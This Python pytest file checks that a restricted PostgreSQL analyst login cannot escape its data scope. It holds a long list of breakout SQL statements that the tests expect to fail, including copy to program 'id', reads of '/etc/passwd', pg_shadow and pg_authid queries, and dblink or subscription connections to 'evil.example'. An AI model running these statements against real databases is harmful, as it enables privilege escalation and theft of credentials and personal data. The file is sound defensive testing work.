"""Notebooks trying to break out: what somebody with an analyst's login may type by SQL to reach past the own scope."""

from __future__ import annotations

import contextlib
import re
from collections.abc import Iterator
from typing import Any

import psycopg
import pytest
from knock import SCOPE
from psycopg import sql

from layers.accounts import logins
from layers.database import Database

REFUSED = (

    "set role atlas_owner", "set role atlas_web", "set role postgres", "set session authorization atlas_owner",
    "set session_replication_role = replica", "set row_security = off; select * from vault.person",
    "set log_min_messages = 'debug5'",  "load 'dblink'",
    "copy (select 1) to program 'id'", "copy (select 1) to '/tmp/attack-out'", "copy pub.grid from program 'id'",
    "copy pub.grid from '/etc/passwd'", "select lo_import('/etc/passwd')", "select lo_export(1, '/tmp/attack-out')",
    "select pg_read_file('/etc/passwd')", "select pg_read_binary_file('postgresql.conf')", "select pg_ls_dir('.')",
    "select pg_ls_logdir()", "select pg_stat_file('postgresql.conf')", "select pg_current_logfile()",
    "select pg_hba_file_rules()", "select * from pg_hba_file_rules", "select * from pg_file_settings",
    "select * from pg_authid", "select * from pg_shadow", "select * from pg_user_mapping",
    "select * from pg_statistic", "create extension dblink", "create extension file_fdw",
    "create extension postgres_fdw", "create extension adminpack", "create language plpython3u",
    "create server s foreign data wrapper postgres_fdw", "create schema mine", "create table public.x (id int)",
    "create table pub.x (id int)", "create temporary table person (id int)", "create temporary view grid as select 1",
    "create function public.f() returns int language sql return 1",
    "create function pg_temp.f() returns int language sql return 1", "create publication p for all tables",
    "create subscription s connection 'host=evil.example' publication p",
    "create event trigger t on ddl_command_end execute function f()",
    "create trigger t before insert on pub.grid for each row execute function f()",
    "create rule r as on select to pub.grid do instead select 1", "create role mine", "create database mine",
    "create policy p on vault.person using (true)", "alter table vault.person disable row level security",
    "alter role atlas_analyst superuser", "alter role atlas_analyst set search_path = pg_temp",
    "alter system set x.y = 1", "alter function auth.low() security invoker", "drop table pub.grid",
    "truncate pub.grid", "grant atlas_owner to x", "grant select on vault.person to public",
    "reassign owned by atlas_owner to atlas_analyst", "security label on table pub.grid is 'x'",
    "insert into pub.grid (code) values ('1')", "update pub.people_count set n = 1", "delete from pub.dataset",
    "select * from vault.person", "select * from vault.identity", "select * from ops.event",
    "select * from auth.session", "select * from auth.account", "select * from auth.analyst",
    "select * from audit.entry", "select * from raw.quarantine",
    "insert into auth.analyst select session_user, '0', ':'", "table vault.opening",
    "select pub.note('export', 'x', '{}')", "select pub.ask_identity('0', ':', 1, 'name', 'visit', null)",
    "select auth.begin('x')",  "select pg_reload_conf()",
    "select pg_rotate_logfile()", "select pg_switch_wal()", "select pg_create_restore_point('x')", "checkpoint",
    "select pg_promote()", "vacuum vault.person", "analyze vault.person; select x", "reindex table vault.person",
    "cluster vault.person", "lock table vault.person", "comment on table vault.person is 'x'",
    "notify x, 'y'; select z", "select query_to_xml('select * from vault.person', true, true, '')",
    "select table_to_xml('vault.person', true, true, '')",

    "select dblink('host=evil.example', 'select 1')", "explain analyze select * from vault.person",
    "prepare p as select * from vault.person", "declare c cursor with hold for select * from vault.person",
    "do $$ begin execute 'select 1 from vault.person'; end $$", "select postgis_extensions_upgrade()",
    "select * from pg_read_server_files", "select pg_logical_slot_get_changes('s', null, null)",
)  # fmt: skip
"""Each ends in an error, whoever of the analysts types it."""

_OURS = "('vault', 'ops', 'auth', 'audit', 'raw')"
SHOWN = {
    "values kept as statistics": f"select max(tablename) from pg_stats where schemaname in {_OURS}",
    "more of them": f"select max(statistics_name) from pg_stats_ext where statistics_schemaname in {_OURS}",
    "what others ask": "select max(query) from pg_stat_activity where usename <> session_user"
    " and query like '%%from%%'",
    "where files lie": "select max(setting) from pg_settings where name in"
    " ('data_directory', 'hba_file', 'config_file')",
    "what is prepared": "select max(statement) from pg_prepared_statements",
    "large objects": "select max(oid::text) from pg_largeobject_metadata",
    "secrets in functions": "select max(proname) from pg_proc where prosrc ~* 'password *=|secret_key *='",
    "functions of files": "select max(proname) from pg_proc where has_function_privilege(oid, 'execute') and proname in"
    " ('pg_read_file', 'pg_ls_dir', 'lo_import', 'lo_export', 'pg_ls_tmpdir', 'pg_stat_file')",
    "somebody to become": "select max(rolname) from pg_roles where pg_has_role(oid, 'member') and rolname not in"
    " (session_user, 'atlas_analyst')",
}
"""What PostgreSQL may show anybody, and is nothing here."""

READ = {"read_event": 3, "read_place": 1, "read_thing": 1, "read_organisation": 1}
"""Functions that give rows, and how many arguments come after range and dataset."""

RAISED = (
    "set atlas.session = 'x'", "set atlas.scope = '0'", "set atlas.low = '0'", "set search_path = pg_temp, pub",
    "set row_security = off", "set role none", "reset role", "set session characteristics as transaction read write",
    "set default_transaction_read_only = off", "discard all",
)  # fmt: skip
"""What may be typed and raises no scope."""


LOGIN = "attack_analyst"


@pytest.fixture(scope="module")
def analyst(city: Database) -> Iterator[psycopg.Connection[Any]]:
    """The connection of an analyst who may see one large grid."""
    with city.connect("admin") as admin, city.connect("door") as door:
        password = logins.give_login(admin, door, LOGIN, SCOPE, city="4499")
    assert password
    address = city.url_of(LOGIN, password)
    with psycopg.connect(address, autocommit=True, options="-c statement_timeout=10s") as connection:
        yield connection
    with city.connect("admin", autocommit=True) as admin:
        admin.execute(sql.SQL("drop role if exists {}").format(sql.Identifier(LOGIN)))


def broken_out(analyst: psycopg.Connection[Any]) -> Iterator[str]:
    """What an analyst could do, or saw."""
    for statement in REFUSED:
        try:
            with analyst.transaction(force_rollback=True):
                analyst.execute(statement.encode())
        except psycopg.Error:
            continue
        yield statement
    for name, query in SHOWN.items():
        row = analyst.execute(query.encode()).fetchone()
        if row != (None,):
            yield f"{name}: {str(row)[:80]}"
    for statement in RAISED:
        analyst.execute(statement.encode())
        yield from (f"{statement}: {one}" for one in outside(analyst))


def rows(analyst: psycopg.Connection[Any], low: str, high: str) -> set[str]:
    """Codes of the grids in which functions find rows for an analyst who asks for a range."""
    found = set()
    for name, more in READ.items():
        query = f"select distinct grid_code from pub.{name}(%s, %s, %s, {', '.join(['null'] * more)})"
        for dataset in ("grid_event", "hydrant", "manhole", "company", "school"):
            with contextlib.suppress(psycopg.Error):
                found |= {str(code) for (code,) in analyst.execute(query.encode(), [low, high, dataset])}
    return found


def outside(analyst: psycopg.Connection[Any]) -> list[str]:
    """Codes outside the scope that functions give."""
    found = rows(analyst, "0", ":") | rows(analyst, "449902", "449903") | rows(analyst, "449901", "449902")
    return sorted(code for code in found if not code.startswith(SCOPE))[:3]


def test_no_notebook_breaks_out(analyst: psycopg.Connection[Any]) -> None:
    assert list(broken_out(analyst)) == []
    assert rows(analyst, SCOPE, SCOPE[:-1] + "2"), "inside the scope there is something"


def test_without_the_defences_one_would(analyst: psycopg.Connection[Any], city: Database) -> None:
    with city.connect("admin", autocommit=True) as admin:
        row = admin.execute("select pg_get_functiondef('auth.covers(text,text)'::regprocedure)").fetchone()
        assert row is not None
        admin.execute(re.sub(r"AS \$(\w*)\$.*\$\1\$", "AS $x$ select true $x$", row[0], flags=re.S))
        admin.execute("grant usage on schema vault to atlas_analyst; grant select on vault.person to atlas_analyst")
        try:
            found = list(broken_out(analyst))
        finally:
            admin.execute(row[0])
            admin.execute("revoke usage on schema vault from atlas_analyst;"
                          " revoke select on vault.person from atlas_analyst")  # fmt: skip
    assert "select * from vault.person" in found
    assert any(one.startswith("discard all: 4499") for one in found)
